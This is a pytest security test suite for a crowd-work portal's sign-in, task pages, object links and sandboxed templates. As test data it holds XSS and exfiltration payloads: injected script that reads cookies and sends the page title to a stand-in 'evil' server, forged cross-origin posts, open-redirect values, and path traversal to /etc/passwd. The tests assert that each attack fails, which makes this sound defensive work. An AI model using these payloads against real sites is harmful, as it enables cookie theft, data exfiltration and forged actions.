"""Strangers, other workers, other sites and hostile data against the portal of a running server."""

import http.client
import json
import re
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, expect

from tests.real.people import PASSWORD, begin, browsing, flow, worker
from tests.server import BUCKET, Server

pytestmark = pytest.mark.real


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as found:
        yield found


class Visitor:
    """A client that keeps cookies and does what no browser would."""

    def __init__(self, server: Server) -> None:
        self.host = urlsplit(server.url).netloc
        self.cookies: dict[str, str] = {}

    def ask(
        self, method: str, path: str, body: bytes | None = None, **headers: str
    ) -> tuple[int, Any, str]:
        connection = http.client.HTTPConnection(self.host, timeout=30)
        sent = {name.replace("_", "-"): value for name, value in headers.items()}
        if self.cookies:
            sent["Cookie"] = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        connection.request(method, path, body, sent)
        answer = connection.getresponse()
        text = answer.read().decode("utf-8", "replace")
        for name, value in answer.getheaders():
            if name.lower() == "set-cookie":
                cookie, _, rest = value.partition("=")
                self.cookies[cookie] = rest.partition(";")[0].strip('"')
        connection.close()
        return answer.status, answer.headers, text

    def post(self, path: str, fields: dict[str, str], **headers: str) -> tuple[int, Any, str]:
        kind = "application/x-www-form-urlencoded"
        return self.ask("POST", path, urlencode(fields).encode(), Content_Type=kind, **headers)

    def token(self, path: str = "/work/sign-in") -> str:
        found = re.search(r'name="csrf" value="([^"]+)"', self.ask("GET", path)[2])
        assert found is not None
        return found[1]

    def sign_in(self, name: str, password: str = PASSWORD, **more: str) -> tuple[int, Any, str]:
        fields = {"csrf": self.token(), "username": name, "password": password, **more}
        return self.post("/work/sign-in", fields)


def _team(server: Server) -> tuple[str, str]:
    """A team with one worker who has a password; both names."""
    team = f"team-{uuid.uuid4().hex[:8]}"
    email = f"{team}@example.com"
    invited = server.client("loopwright").invite_worker(WorkteamName=team, Email=email)
    server.client("cognito-idp").admin_set_user_password(
        UserPoolId=invited["UserPoolId"], Username=email, Password=PASSWORD, Permanent=True
    )
    return team, email


def _loop(server: Server, arn: str, content: dict[str, Any]) -> None:
    server.client("sagemaker-a2i-runtime").start_human_loop(
        HumanLoopName=f"loop-{uuid.uuid4().hex[:8]}",
        FlowDefinitionArn=arn,
        HumanLoopInput={"InputContent": json.dumps(content)},
    )


def _signed_in(server: Server, email: str) -> Visitor:
    visitor = Visitor(server)
    status, headers, _ = visitor.sign_in(email)
    assert (status, headers["Location"]) == (303, "/work")
    return visitor


def _taken(server: Server, visitor: Visitor, name: str) -> str:
    """The path of a task that the visitor took."""
    fields = {"csrf": visitor.token("/work"), "job": f"review/{name}"}
    status, headers, _ = visitor.post("/work/take", fields)
    assert status == 303
    assert headers["Location"].startswith("/work/tasks/")
    return str(headers["Location"])


def _told(server: Server, path: str, visitor: Visitor, answer: Any, **headers: str) -> int:
    body = json.dumps({"answer": answer}).encode()
    return visitor.ask("POST", f"{path}/answer", body, **headers)[0]


def test_nobody_sees_or_answers_what_is_anothers(server: Server) -> None:
    (team, email), (_, other) = _team(server), _team(server)
    name = f"flow-{uuid.uuid4().hex[:8]}"
    _loop(server, flow(server, name, team), {"text": "secret"})
    mine, theirs = _signed_in(server, email), _signed_in(server, other)
    path = _taken(server, mine, name)
    token = mine.token(path)
    assert "secret" in mine.ask("GET", f"{path}/page")[2]
    assert name not in theirs.ask("GET", "/work")[2]
    fields = {"csrf": theirs.token("/work"), "job": f"review/{name}"}
    assert theirs.post("/work/take", fields)[1]["Location"] == "/work?said=none"
    for look in (path, f"{path}/page"):
        status, _, text = theirs.ask("GET", look)
        assert status == 404
        assert "secret" not in text
    own = theirs.token("/work")
    assert _told(server, path, theirs, {"a": 1}, X_CSRF=own) == 410
    assert theirs.post(f"{path}/decline", {"csrf": own})[0] == 404
    stranger = Visitor(server)
    assert stranger.ask("GET", f"{path}/page")[0] == 401
    assert stranger.ask("GET", path)[1]["Location"].startswith("/work/sign-in?next=")
    assert _told(server, path, stranger, {"a": 1}, X_CSRF=token) == 401
    assert stranger.ask("GET", "/work/owner")[0] == 401
    assert mine.ask("GET", "/work/owner")[0] == 401
    # Out of the team: what was in hand is out of reach as well.
    pools = server.client("cognito-idp")
    pool = server.client("sagemaker").describe_workteam(WorkteamName=team)["Workteam"]
    member = pool["MemberDefinitions"][0]["CognitoMemberDefinition"]
    pools.admin_remove_user_from_group(
        UserPoolId=member["UserPool"], Username=email, GroupName=member["UserGroup"]
    )
    assert mine.ask("GET", f"{path}/page")[0] == 404
    pools.admin_disable_user(UserPoolId=member["UserPool"], Username=email)
    assert mine.ask("GET", "/work")[1]["Location"] == "/work/sign-in"


def test_other_sites_and_forged_forms_do_nothing(server: Server) -> None:
    team, email = _team(server)
    name = f"flow-{uuid.uuid4().hex[:8]}"
    _loop(server, flow(server, name, team), {"text": "x"})
    visitor = _signed_in(server, email)
    path = _taken(server, visitor, name)
    token = visitor.token(path)
    evil = "http://evil.example"
    assert _told(server, path, visitor, {"a": 1}) == 403
    assert _told(server, path, visitor, {"a": 1}, X_CSRF="guess") == 403
    assert _told(server, path, visitor, {"a": 1}, X_CSRF=token, Origin=evil) == 403
    cross = {"Sec_Fetch_Site": "cross-site"}
    assert _told(server, path, visitor, {"a": 1}, X_CSRF=token, **cross) == 403
    assert visitor.post(f"{path}/decline", {"csrf": token}, Origin=evil)[0] == 403
    assert visitor.post(f"{path}/decline", {"csrf": "guess"})[0] == 403
    assert visitor.post("/work/sign-out", {"csrf": "guess"})[0] == 403
    fresh = Visitor(server)
    given = {"username": email, "password": PASSWORD}
    assert fresh.post("/work/sign-in", {**given, "csrf": "guess"})[0] == 403
    away = {"csrf": fresh.token(), **given, "next": "https://evil.example/work/"}
    assert fresh.post("/work/sign-in", away)[1]["Location"] == "/work"
    for next_one in ("/work//evil.example", "/work/\\evil", "//evil.example"):
        assert f'value="{next_one}"' not in fresh.ask("GET", f"/work/sign-in?next={next_one}")[2]
    assert _told(server, path, visitor, ["no", "object"], X_CSRF=token) == 400
    assert _told(server, path, visitor, {"a": 1}, X_CSRF=token) == 200
    assert _told(server, path, visitor, {"a": 2}, X_CSRF=token) == 200
    big = {"a": "x" * (13 * 1024 * 1024)}
    assert _told(server, path, visitor, big, X_CSRF=token) == 413


def test_guessing_is_slowed_and_sessions_are_not_fixed(server: Server) -> None:
    _, email = _team(server)
    visitor = Visitor(server)
    visitor.cookies["loopwright_work"] = "chosen-by-an-attacker"
    visitor.sign_in(email)
    assert visitor.cookies["loopwright_work"] != "chosen-by-an-attacker"
    first = visitor.cookies["loopwright_work"]
    visitor.sign_in(email)
    second = visitor.cookies["loopwright_work"]
    assert first != second
    old = Visitor(server)
    old.cookies["loopwright_work"] = first
    assert old.ask("GET", "/work")[1]["Location"] == "/work/sign-in"
    visitor.post("/work/sign-out", {"csrf": visitor.token("/work")})
    old.cookies["loopwright_work"] = second
    assert old.ask("GET", "/work")[1]["Location"] == "/work/sign-in"
    for _ in range(9):
        status, _, text = Visitor(server).sign_in(email, "wrong")
        assert status == 401
    assert "Too many wrong passwords" in text
    status, _, text = Visitor(server).sign_in(email)
    assert status == 401
    assert "Too many wrong passwords" in text
    status, _, text = Visitor(server).sign_in("nobody@example.com", "wrong")
    assert "Incorrect username or password" in text
    headers = Visitor(server).ask("GET", "/work/sign-in")[1]
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    cookie = headers["Set-Cookie"]
    assert "HttpOnly" in cookie
    assert "SameSite=lax" in cookie


def test_an_invitation_works_once_and_demands_a_good_password(server: Server) -> None:
    team = f"team-{uuid.uuid4().hex[:8]}"
    invited = server.client("loopwright").invite_worker(
        WorkteamName=team, Email=f"{team}@example.com"
    )
    path = urlsplit(invited["InvitationUrl"]).path
    visitor = Visitor(server)

    def choose(password: str, again: str) -> tuple[int, Any, str]:
        fields = {"csrf": visitor.token(path), "password": password, "again": again}
        return visitor.post(path, fields)

    assert "not long enough" in choose("short", "short")[2]
    assert "must have an upper-case letter" in choose("lower-case-7", "lower-case-7")[2]
    assert "not the same" in choose(PASSWORD, PASSWORD + "x")[2]
    assert choose(PASSWORD, PASSWORD)[0] == 303
    assert Visitor(server).ask("GET", path)[0] == 410
    assert Visitor(server).ask("GET", "/work/join/guessed")[0] == 410
    _signed_in(server, f"{team}@example.com")


def test_links_to_objects_show_one_object_and_nothing_a_browser_runs(server: Server) -> None:
    s3 = server.client("s3")
    s3.create_bucket(Bucket=BUCKET)
    script = b"<script>document.title='ran'</script>"
    s3.put_object(Bucket=BUCKET, Key="evil/page.html", Body=script, ContentType="text/html")
    s3.put_object(Bucket=BUCKET, Key="evil/../../etc/passwd", Body=b"only a key")
    template = "{{ task.input.a | grant_read_access }} {{ task.input.b | grant_read_access }}"
    given = {
        "a": f"s3://{BUCKET}/evil/page.html",
        "b": f"s3://{BUCKET}/evil/../../etc/passwd",
    }
    page = server.client("sagemaker").render_ui_template(
        UiTemplate={"Content": template},
        Task={"Input": json.dumps(given)},
        RoleArn="arn:aws:iam::123456789012:role/x",
    )["RenderedContent"]
    html, odd = page.split()
    visitor = Visitor(server)
    status, headers, body = visitor.ask("GET", urlsplit(html).path)
    assert (status, body) == (200, script.decode())
    assert headers["Content-Type"].startswith("text/plain")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    assert visitor.ask("GET", urlsplit(odd).path)[2] == "only a key"
    path = urlsplit(html).path
    token, _, name = path.removeprefix("/work/objects/").partition("/")
    payload, _, signature = token.partition(".")
    forged = payload[:-2] + ("A" if payload[-2] != "A" else "B") + payload[-1]
    for wrong in (f"{forged}.{signature}", f"{payload}.", payload, f"{payload}.{signature[:-1]}"):
        assert visitor.ask("GET", f"/work/objects/{wrong}/{name}")[0] == 404
    for look in ("/work/static/../web.py", "/work/static/%2e%2e/web.py", "/work/static//etc/passwd",
                 "/work/static/crowd/../../pages/base.html"):  # fmt: skip
        assert visitor.ask("GET", look)[0] in (404, 405), look
    for style in ("base.css", "work.css"):
        status, headers, text = visitor.ask("GET", f"/work/static/{style}")
        assert (status, headers["Content-Type"]) == (200, "text/css; charset=utf-8")
        assert "{" in text
    status, headers, body = visitor.ask("GET", path, Range="bytes=1-6")
    assert (status, body, headers["Content-Range"]) == (206, "script", f"bytes 1-6/{len(script)}")
    assert visitor.ask("GET", path, Range="bytes=9999-")[0] == 416
    # A signed request below /work is S3's: a bucket may have that name.
    s3.create_bucket(Bucket="work")
    s3.put_object(Bucket="work", Key="tasks/x", Body=b"mine")
    assert s3.get_object(Bucket="work", Key="tasks/x")["Body"].read() == b"mine"
    s3.delete_object(Bucket="work", Key="tasks/x")
    s3.delete_bucket(Bucket="work")


def test_hostile_data_and_templates_reach_nothing(server: Server, browser: Browser) -> None:
    team = f"team-{uuid.uuid4().hex[:8]}"
    context = worker(server, browser, team, f"{team}@example.com")
    page = context.pages[0]
    hits: list[str] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            return

    other = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{other.server_address[1]}/"
    template = """
    <script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
    <crowd-form><crowd-input name="words" label="Words"></crowd-input>
      <p id="seen">{{ task.input.text }}</p><p id="found">nothing</p></crowd-form>
    <script>
      let found = [];
      try { found.push("cookie " + document.cookie); } catch (e) { found.push("no cookie"); }
      try { found.push("parent " + parent.document.title); } catch (e) { found.push("no parent"); }
      try { localStorage.x = 1; found.push("storage"); } catch (e) { found.push("no storage"); }
      try { parent.location = "EVIL"; } catch (e) { found.push("no leaving"); }
      new Image().src = "EVIL?" + document.title;
      Promise.allSettled([fetch("/work"), fetch("EVIL"),
                          fetch("/work/sign-out", {method: "POST"})])
        .then((all) => { found.push(...all.map((one) => one.status));
                         document.getElementById("found").textContent = found.join("; "); });
    </script>""".replace("EVIL", evil)
    message = "{loopwright: 1, type: 'submit', answer: {}}"
    text = f"</p><script>parent.postMessage({message}, '*')</script>"
    _loop(server, flow(server, f"flow-{uuid.uuid4().hex[:8]}", team, template), {"text": text})
    begin(page, server.url)
    frame = page.frame_locator("#page")
    expect(frame.locator("#seen")).to_have_text(text)
    expect(frame.locator("#found")).to_have_text(
        "no cookie; no parent; no storage; no leaving; rejected; rejected; rejected"
    )
    assert "/work/tasks/" in page.url
    assert hits == []
    other.shutdown()
    other.server_close()
